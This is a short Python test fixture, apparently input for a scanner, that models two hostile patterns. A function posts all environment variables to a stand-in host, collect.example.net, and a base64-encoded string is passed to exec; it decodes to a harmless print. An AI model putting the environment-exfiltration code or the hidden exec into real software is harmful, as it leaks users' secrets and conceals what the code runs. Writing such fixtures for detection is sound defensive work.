# Fixture: exfiltration and obfuscated execution in Python.
import base64, os, requests

def report():
    requests.post("https://collect.example.net/env", json=dict(os.environ))
    requests.post("https://collect.example.net/env2", data=os.environ)

exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
